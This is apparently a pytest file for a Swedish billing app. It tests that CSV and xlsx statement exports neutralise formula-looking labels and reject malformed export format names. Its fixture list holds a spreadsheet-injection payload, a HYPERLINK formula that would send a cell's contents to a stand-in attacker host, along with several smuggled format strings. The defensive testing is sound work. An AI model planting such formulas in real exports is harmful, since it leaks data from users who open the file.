"""The statements' CSV and xlsx: text that a spreadsheet would take for a formula stays text; amounts stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from billing.services import costs, statements
from tests.billing.conftest import ISSUE_DATE

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://angripare.example/?x="&A1;"Klicka")', "@SUM(A1:A9)", "+46 lokaler", "-rabatt"]


@pytest.fixture
def hostile_statement(forvaltare, lund, bjuv, parties):
    model = costs.cost_model_create(year=2024, name="Budget 2024", actor=forvaltare)
    for label in HOSTILE:
        costs.cost_line_create(
            model=model, actor=forvaltare, category="staff", label=label, key="population", amount=Decimal("1000.00")
        )
    costs.cost_model_fix(model=model, actor=forvaltare)
    statements.statements_prepare(year=2024, period="Y", actor=forvaltare)
    [statement] = statements.statements_issue_all(year=2024, period="Y", actor=forvaltare, issue_date=ISSUE_DATE)
    credit = statements.statement_credit(
        statement=statement, reason="Rättelse", actor=forvaltare, issue_date=ISSUE_DATE
    )
    return statement, credit


def test_csv_neutralises_formulas_and_keeps_negative_amounts(client_for, forvaltare, consortium, hostile_statement):
    response = client_for(forvaltare, consortium).get("/fakturaunderlag/export.csv?year=2024")
    assert (
        response.status_code == 200 and response["Content-Disposition"] == 'attachment; filename="fakturaunderlag.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    labels = {row[header.index("Benämning")] for row in body}
    assert labels == {"'" + label for label in HOSTILE}
    for row in body:
        for cell in row:
            if cell.startswith("-"):  # only the credit note's amounts may start with a minus: numbers
                assert cell.replace("-", "", 1).replace(",", "").isdigit(), cell
            assert not cell.startswith(("=", "+", "@")), cell
    amounts = [row[header.index("Belopp exkl. moms")] for row in body]
    assert any(a.startswith("-") for a in amounts) and any(not a.startswith("-") for a in amounts)


def test_xlsx_writes_formula_looking_text_as_text_and_amounts_as_numbers(
    client_for, forvaltare, consortium, hostile_statement
):
    response = client_for(forvaltare, consortium).get("/fakturaunderlag/export.xlsx?year=2024")
    sheet = load_workbook(io.BytesIO(response.content))["Fakturaunderlag"]
    header = [c.value for c in sheet[1]]
    label_column = header.index("Benämning")
    amount_column = header.index("Belopp exkl. moms")
    labels = set()
    for row in sheet.iter_rows(min_row=2):
        assert row[label_column].data_type == "s"  # never "f" (a formula)
        labels.add(row[label_column].value)
        assert isinstance(row[amount_column].value, float | int)
        assert row[amount_column].number_format == "#,##0.00"
    assert labels == set(HOSTILE)


def test_an_unknown_export_format_is_404_on_both_sites(client_for, forvaltare, consortium, kontakt_lund, lund):
    for fmt in ("pdf", 'csv";x=', "xlsx.exe", "CSV"):
        assert client_for(forvaltare, consortium).get(f"/fakturaunderlag/export.{fmt}").status_code == 404, fmt
        assert client_for(kontakt_lund, lund).get(f"/fakturaunderlag/export.{fmt}").status_code == 404, fmt
